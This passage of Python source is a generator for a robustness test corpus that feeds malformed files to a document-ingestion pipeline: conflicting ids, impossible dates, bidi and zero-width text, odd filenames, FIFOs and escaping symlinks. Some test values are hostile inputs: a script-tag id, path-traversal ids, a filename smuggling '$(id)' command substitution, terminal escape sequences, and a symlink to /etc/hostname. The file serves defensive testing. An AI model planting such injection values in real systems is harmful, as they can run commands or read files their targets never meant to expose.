    b.add("ids", "same-id-other-content", json.dumps({"id": "dup-conf", "text": x}) + "\n" + json.dumps({"id": "dup-conf", "text": b.article()[1]}) + "\n", ".jsonl", "any")
    for sid in stored_ids[: b.n(len(stored_ids), 3)]:
        b.add("ids", f"conflicts-stored-{sid}", json.dumps({"id": sid, "title": "Hijack", "text": b.article()[1]}) + "\n", ".jsonl", "reject")
    for k, weird in enumerate(["", " ", "0", 0, -1, 10**30, True, None, "a" * 10_000, "x\ny", "nul\u0000id", "\u202eevil", "../x", "%2e%2e/", "<script>alert(1)</script>", "id with spaces", "ñ-unicode-ïd", "1.0"]):
        # ids are data (rendering escapes them; tests/web checks that), so no canary here
        b.add("ids", f"weird-id-{k}", json.dumps({"id": weird, "text": b.article()[1]}) + "\n", ".jsonl", "any")
    b.add("ids", "int-and-str-same", json.dumps({"id": 7, "text": x + " int"}) + "\n" + json.dumps({"id": "7", "text": x + " str"}) + "\n", ".jsonl", "any")
    b.add("ids", "same-content-many-ids", "\n".join(json.dumps({"id": f"copy-{i}-{r.randrange(10**9)}", "text": x}) for i in range(20)), ".jsonl", "store")
    # the same record in two files, and a conflicting one in a third (a directory case)
    d = b.add_dir("ids", "dir-dup-and-conflict", "any")
    rec = json.dumps({"id": "dir-dup", "text": x + " dir"})
    (d / "a.jsonl").write_text(rec + "\n")
    (d / "b.jsonl").write_text(rec + "\n")
    (d / "c.jsonl").write_text(json.dumps({"id": "dir-dup", "text": b.article()[1]}) + "\n")
    feed = rss([rss_item(t, x, "same-guid"), rss_item(t + " changed", b.article()[1], "same-guid")])
    b.add("ids", "feed-duplicate-guid", feed, ".xml", "any")


def _dates(b: _Builder) -> None:
    absurd = ["0000-01-01", "0000-00-00", "9999-12-31", "9999-12-31T23:59:59+14:00", "10000-01-01", "-0001-01-01",
              "2025-02-30", "2025-13-45", "1970-01-01T00:00:00Z", "1900-02-29", "2038-01-19T03:14:08Z", "not a date",
              "1e309", "   ", "2025-03-04T25:61:61", "２０２５-０３-０４", "\u202e2025-03-04", "2025-03-04\u0000"]
    for k, d in enumerate(absurd[: b.n(len(absurd), 8)]):
        t, x = b.article()
        b.add("dates", f"jsonl-{k}", json.dumps({"id": f"date-{k}-{b.rng.randrange(10**9)}", "title": t, "published": d, "text": x}, ensure_ascii=False), ".jsonl", "store")
        # a NUL byte anywhere makes the readers call a page binary (a choice of theirs): no expectation then
        b.add("dates", f"html-meta-{k}", good_html(t, x, date=d), ".html", "any" if "\0" in d else "store")
    rfc = ["Mon, 01 Jan 0000 00:00:00 GMT", "Fri, 31 Dec 9999 23:59:59 GMT", "Sun, 30 Feb 2025 10:00:00 GMT", "yesterday", "Tue, 04 Mar 99999 10:00:00 +9999"]
    for k, d in enumerate(rfc):
        t, x = b.article()
        b.add("dates", f"rss-{k}", rss([rss_item(t, x, f"d{k}", date=d)]), ".xml", "store")
        b.add("dates", f"atom-{k}", f"<?xml version='1.0'?><feed xmlns='http://www.w3.org/2005/Atom'><title>Post</title><entry><id>urn:d:{k}</id><title>{t}</title><updated>{d}</updated><published>0000-01-01T00:00:00Z</published><content>{x}</content></entry></feed>", ".atom", "store")
    for k, line in enumerate(["On 31 February 0000 the council met.", "Published 9999-12-31.", "Dated 00/00/0000, updated 99/99/9999.",
                              "In the year 0, and again in 10000 BC, and on 1 January 9999.", "Posted 3000000000 seconds ago."]):
        t, x = b.article()
        b.add("dates", f"text-{k}", f"{t}\n\n{line}\n\n{x}\n\n{line}", ".txt", "store")


def _bidi(b: _Builder) -> None:
    r = b.rng
    specials = ["\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u200f", "\u200e", "\u061c", "\u200b", "\u200d", "\ufeff", "\u2060", "\u034f", "\u180e"]
    arabic = "أعلن مجلس مدينة بورت إلسمير اليوم عن إصلاح جسر الميناء بعد اكتشاف تشققات في عمودين، وقال المسؤولون إن العمل سيستغرق أسابيع."
    hebrew = "מועצת העיר דרוביק הודיעה היום על פתיחת קו החשמלית החדש, ונוסעים רבים הגיעו לתחנה הראשונה למרות העיכובים."
    for k, para in enumerate([arabic, hebrew]):
        b.add("bidi", f"rtl-{k}", f"عنوان {k}\n\n" + "\n\n".join([para] * 4), ".txt", "store")
        b.add("bidi", f"rtl-html-{k}", f"<html dir='rtl'><body><article>" + f"<p>{para}</p>" * 4 + "</article></body></html>", ".html", "any")
    for i in range(b.n(24, 6)):
        t, x = b.article()
        sp = r.sample(specials, 3)
        laced = "".join(c + (r.choice(sp) if r.random() < 0.15 else "") for c in x)
        where = r.choice(["title", "text", "outlet", "all"])
        rec = {"id": f"bidi-{i}-{r.randrange(10**9)}", "title": t, "text": x, "outlet": r.choice(OUTLETS)}
        if where in ("title", "all"):
            rec["title"] = sp[0] + t + sp[1]
        if where in ("text", "all"):
            rec["text"] = laced
        if where in ("outlet", "all"):
            rec["outlet"] = "\u202e" + rec["outlet"][::-1]
        b.add("bidi", f"laced-{where}-{i}", json.dumps(rec, ensure_ascii=False), ".jsonl", "store")
    t, x = b.article()
    b.add("bidi", "zalgo", t + "\n\n" + "".join(ch + "\u0301\u0302\u0303\u0334\u0335" * 20 for ch in x), ".txt", "any")
    b.add("bidi", "zero-width-between-every-char", t + "\n\n" + "\u200b".join(x), ".txt", "store")
    b.add("bidi", "rlo-filename\u202etxt.exe", t + "\n\n" + x, ".txt", "store")
    b.add("bidi", "homoglyph-outlet", json.dumps({"id": f"homo-{r.randrange(10**9)}", "outlet": "Тhе Еlsmеrе Lеdgеr", "text": x + " homoglyph"}, ensure_ascii=False), ".jsonl", "store")
    b.add("bidi", "emoji-flood", t + "\n\n" + x + " " + "👩‍👩‍👧‍👦🏳️‍🌈" * 5000, ".txt", "any")
    b.add("bidi", "private-use-and-noncharacters", t + "\n\n" + x + " \ue000\uffff\ufffe\U0010ffff", ".txt", "any")


def _misc(b: _Builder) -> None:
    r = b.rng
    t, x = b.article()
    body = (t + "\n\n" + x).encode()
    b.add("misc", "cr-only-newlines", body.replace(b"\n", b"\r"), ".txt", "store")
    b.add("misc", "mixed-newlines", body.replace(b"\n\n", b"\r\n\r", 1).replace(b"\n", b"\n\r"), ".txt", "store")
    b.add("misc", "control-chars", bytes(c if r.random() > 0.02 else r.choice([1, 2, 7, 8, 11, 27, 127]) for c in body), ".txt", "any")
    b.add("misc", "ansi-escapes", ("\x1b[2J\x1b[31m" + t + "\x1b]0;pwned\x07\n\n" + x).encode(), ".txt", "any")
    for name in ["-leading-dash", "space name", "ünïcödé-名前", "semi;colon&amp$(id)`id`", "new\nline", "quote'\"", "%s%n%x"]:
        b.add("misc", f"name-{name}", body, ".txt", "store")
    b.add("misc", "wrong-ext-html-as-txt", good_html(t, x), ".txt", "store")
    b.add("misc", "wrong-ext-jsonl-as-html", json.dumps({"id": "wx", "text": x}), ".html", "any")
    b.add("misc", "wrong-ext-txt-as-xml", body, ".xml", "any")
    b.add("misc", "wrong-ext-warc-as-txt", warc_record("response", "https://k.example/z", http_response(good_html(t, x).encode())), ".txt", "any")
    b.add("misc", "unknown-ext", body, ".docx", "store")
    # special files inside a directory: a FIFO (must not block), a dangling symlink, a symlink loop,
    # a symlink escaping the directory, an unreadable file
    d = b.add_dir("misc", "special-files", "any")
    (d / "ok.txt").write_bytes(body)
    if hasattr(os, "mkfifo"):
        os.mkfifo(d / "fifo.txt")
    (d / "dangling.txt").symlink_to(d / "nowhere.txt")
    (d / "loop").symlink_to(d, target_is_directory=True)
    (d / "escape.txt").symlink_to("/etc/hostname")
    unreadable = d / "unreadable.txt"
    unreadable.write_bytes(body)
    unreadable.chmod(0)
    fifo_dir = b.add_dir("misc", "fifo-alone", "any")
    if hasattr(os, "mkfifo"):
        os.mkfifo(fifo_dir / "pipe.jsonl")
    dev = b.add_dir("misc", "device-link", "any")
    (dev / "zero.txt").symlink_to("/dev/zero")
    (dev / "urandom.html").symlink_to("/dev/urandom")
    deep = b.add_dir("misc", "deep-dirs", "store")
    p = deep
    for i in range(b.n(60, 20)):
        p = p / f"d{i}"
    p.mkdir(parents=True)
    (p / "deep.txt").write_bytes(body)


def generate(out_dir: str | Path, seed: int = 0, quick: bool = False, *, max_decompressed_bytes: int = 104_857_600,
             max_file_bytes: int = 52_428_800, max_record_chars: int = 2_000_000, max_line_chars: int = 200_000,
             stored_ids: list[str] | None = None) -> list[Case]:
    """Write the corpus under ``out_dir`` and return its cases (also saved as ``cases.json``).

    The caps must match the settings the corpus is run with, so the bombs and oversize files
    land just past them. ``stored_ids`` are ids already in the target store (for conflict cases).
    """
    out = Path(out_dir)
    b = _Builder(out, seed, quick)
    secret = out / "secret.txt"
    secret.write_text(f"XXE-CANARY-{random.Random(seed).randrange(10**12)}\n")
    _binary(b)
    _empty(b)
    _encodings(b)
    _gzip(b)
    _bombs(b, max_decompressed_bytes)
    _huge_lines(b, max_file_bytes, max_record_chars, max_line_chars)
    _nested_html(b)
    _scripts(b)
    _xml_attacks(b, secret)
    _warc(b)
    _jsonl(b)
    _ids(b, stored_ids or [])
    _dates(b)
    _bidi(b)
    _misc(b)
    (out / "cases.json").write_text(json.dumps([asdict(c) for c in b.cases], ensure_ascii=False, indent=0))
    return b.cases


def cleanup(out_dir: str | Path) -> None:
    """Make every generated file removable again (one case is chmod 0)."""
    for root, dirs, files in os.walk(out_dir):
        for f in files:
            p = os.path.join(root, f)
            if not os.path.islink(p):
                try:
                    os.chmod(p, stat.S_IRUSR | stat.S_IWUSR)
                except OSError:
                    pass


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("out")
    ap.add_argument("--seed", type=int, default=0)
    ap.add_argument("--quick", action="store_true")
    a = ap.parse_args()
    cases = generate(a.out, a.seed, a.quick)
    cats: dict[str, int] = {}
    for c in cases:
        cats[c.category] = cats.get(c.category, 0) + 1
    print(f"{len(cases)} cases in {a.out}: " + ", ".join(f"{k} {v}" for k, v in cats.items()))


if __name__ == "__main__":
    main()
